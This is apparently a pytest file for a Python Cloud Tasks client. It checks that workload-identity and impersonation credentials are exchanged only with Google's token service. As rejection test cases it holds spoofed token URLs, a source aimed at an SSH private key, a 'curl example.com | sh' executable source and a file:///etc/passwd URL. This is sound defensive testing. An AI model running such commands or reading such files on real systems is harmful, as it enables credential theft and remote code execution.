"""Identities of other providers: tokens are exchanged only with Google."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest

import cloudtasks_nb as ct
from cloudtasks_nb.rest.auth import credentials_auth
from cloudtasks_nb.rest.key_files import project_of, to_credentials
from tests.scripted import answer, scripted

POOL = "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/ci/providers/github"
STS = "https://sts.googleapis.com/v1/token"
WORKER = "worker@my-project.iam.gserviceaccount.com"
ACTING = f"https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/{WORKER}:generateAccessToken"
GIVEN = {
    "access_token": "ya29.exchanged",
    "issued_token_type": "urn:ietf:params:oauth:token-type:access_token",
    "token_type": "Bearer",
    "expires_in": 3600,
}


def workload(source: Any, **more: Any) -> dict[str, Any]:
    return {
        "type": "external_account",
        "audience": POOL,
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": STS,
        "credential_source": source,
        **more,
    }


def test_a_token_in_a_file_is_exchanged_for_one_of_googles(tmp_path: Path) -> None:
    (tmp_path / "token").write_text("token-of-the-cluster")
    with scripted(answer(200, GIVEN)) as sts, scripted(answer(200, {})) as service:
        held = workload({"file": str(tmp_path / "token")}, token_url=f"{sts.url}/v1/token")
        (tmp_path / "config.json").write_text(json.dumps(held))
        with ct.connect("p", endpoint=service.url, credentials=tmp_path / "config.json") as client:
            client.locations()
            assert client.identity == "identity pool credentials"
            shown = repr(client) + str(client) + client._repr_html_()
        sent = parse_qs(sts.requests[0].partition("\r\n\r\n")[2])
    assert sent["subject_token"] == ["token-of-the-cluster"]
    assert sent["scope"] == ["https://www.googleapis.com/auth/cloud-platform"]
    assert "authorization: Bearer ya29.exchanged" in service.requests[0]
    assert "token-of-the-cluster" not in shown


def test_a_token_behind_an_address_is_asked_for_with_its_headers() -> None:
    with scripted(answer(200, {"value": "token-of-ci"})) as provider, scripted(answer(200, GIVEN)) as sts:
        source = {
            "url": f"{provider.url}/token?audience=x",
            "headers": {"Authorization": "Bearer of-ci"},
            "format": {"type": "json", "subject_token_field_name": "value"},
        }
        auth = credentials_auth(to_credentials(workload(source, token_url=f"{sts.url}/v1/token")))
        assert (
            auth.headers("GET", "https://cloudtasks.googleapis.com/")["authorization"]
            == "Bearer ya29.exchanged"
        )
        assert "Authorization: Bearer of-ci" in provider.requests[0]
        assert "token-of-ci" in sts.requests[0]


def test_the_account_that_is_acted_for_names_who_calls_and_the_project() -> None:
    found = to_credentials(workload({"file": "/token"}, service_account_impersonation_url=ACTING))
    assert (credentials_auth(found).identity, project_of(found)) == (WORKER, "my-project")


def test_on_aws_the_machine_is_asked_and_nothing_else() -> None:
    metadata = "http://169.254.169.254/latest"
    source = {
        "environment_id": "aws1",
        "region_url": f"{metadata}/meta-data/placement/availability-zone",
        "url": f"{metadata}/meta-data/iam/security-credentials",
        "regional_cred_verification_url": "https://sts.{region}.amazonaws.com?Action=GetCallerIdentity",
    }
    aws = {"subject_token_type": "urn:ietf:params:aws:token-type:aws4_request"}
    assert credentials_auth(to_credentials(workload(source, **aws))).identity == "aws credentials"
    with pytest.raises(ct.ConfigError, match="over plain http"):
        to_credentials(workload(source | {"region_url": "http://example.com/"}, **aws))


def test_what_gcloud_writes_for_a_workforce_and_for_who_acts_as_an_account_signs_in() -> None:
    person = {
        "type": "external_account_authorized_user",
        "audience": "//iam.googleapis.com/locations/global/workforcePools/us/providers/okta",
        "token_url": "https://sts.googleapis.com/v1/oauthtoken",
        "refresh_token": "refresh-of-mine",
        "client_id": "c",
        "client_secret": "s",
    }
    assert to_credentials(person).refresh_token == "refresh-of-mine"
    acting = {
        "type": "impersonated_service_account",
        "service_account_impersonation_url": ACTING,
        "delegates": ["projects/-/serviceAccounts/step@p.iam.gserviceaccount.com"],
        "source_credentials": person,
        "quota_project_id": "who-pays",
    }
    found = to_credentials(acting)
    assert (found.service_account_email, found.quota_project_id) == (WORKER, "who-pays")
    assert found._delegates == ["projects/-/serviceAccounts/step@p.iam.gserviceaccount.com"]
    assert project_of(found) == "my-project"


ELSEWHERE = (
    "https://example.com/v1/token",
    "http://sts.googleapis.com/v1/token",
    "https://sts.googleapis.com.example.com/v1/token",
    "https://example.com\\.sts.googleapis.com/v1/token",
    "https://evilsts.googleapis.com/",
    "https://storage.googleapis.com/bucket",
    "https://sts.googleapis.com@example.com/",
    "http://example.com\\.localhost/token",
    "http://example.com\\@localhost/token",
)


@pytest.mark.parametrize("address", ELSEWHERE)
@pytest.mark.parametrize("name", ["token_url", "service_account_impersonation_url", "token_info_url"])
def test_nothing_is_sent_to_others_than_google(address: str, name: str) -> None:
    for held in (
        workload({"file": "~/.ssh/id_ed25519"}, **{name: address}),
        {"type": "external_account_authorized_user", "token_url": STS, "refresh_token": "r", name: address},
        {"type": "impersonated_service_account", "service_account_impersonation_url": ACTING, name: address},
    ):
        with pytest.raises(ct.ConfigError) as caught:
            ct.connect("p", credentials=held)
        assert caught.value.hint


@pytest.mark.parametrize(
    "address",
    ["https://sts.us-east1.googleapis.com/v1/token", "https://sts-x.p.mtls.googleapis.com/v1/token"],
)
def test_googles_other_addresses_are_googles(address: str) -> None:
    assert to_credentials(workload({"file": "/token"}, token_url=address))._token_url == address


@pytest.mark.parametrize(
    ("source", "match"),
    [
        ({"executable": {"command": "curl example.com | sh"}}, "not a file, a URL or AWS"),
        ({"certificate": {"use_default_certificate_config": True}}, "not a file, a URL or AWS"),
        ("/token", "not a file, a URL or AWS"),
        ({"url": "http://example.com/token"}, "over plain http"),
        ({"url": "file:///etc/passwd"}, "over plain http"),
        ({"url": 7}, "over plain http"),
    ],
)
def test_a_source_that_is_not_safe_is_refused(source: Any, match: str) -> None:
    with pytest.raises(ct.ConfigError, match=match) as caught:
        ct.connect("p", credentials=workload(source))
    assert "curl" not in str(caught.value)


def test_what_an_account_acts_with_is_checked_too() -> None:
    acting = {"type": "impersonated_service_account", "service_account_impersonation_url": ACTING}
    for source in (None, {}, workload({"file": "/x"}, token_url="https://example.com/")):
        with pytest.raises(ct.ConfigError):
            to_credentials(acting | {"source_credentials": source})
    with pytest.raises(ct.ConfigError, match="no service account"):
        to_credentials(acting | {"service_account_impersonation_url": ACTING.partition(":generate")[0]})


def test_a_configuration_that_lacks_something_says_what() -> None:
    with pytest.raises(ct.ConfigError, match="lack audience and token_url") as caught:
        to_credentials(workload({"file": "/token"}) | {"token_url": "", "audience": None})
    assert "create-cred-config" in (caught.value.hint or "")
    with pytest.raises(ct.AuthError, match="is not valid"):
        to_credentials({"type": "external_account_authorized_user", "token_url": STS, "audience": "a"})
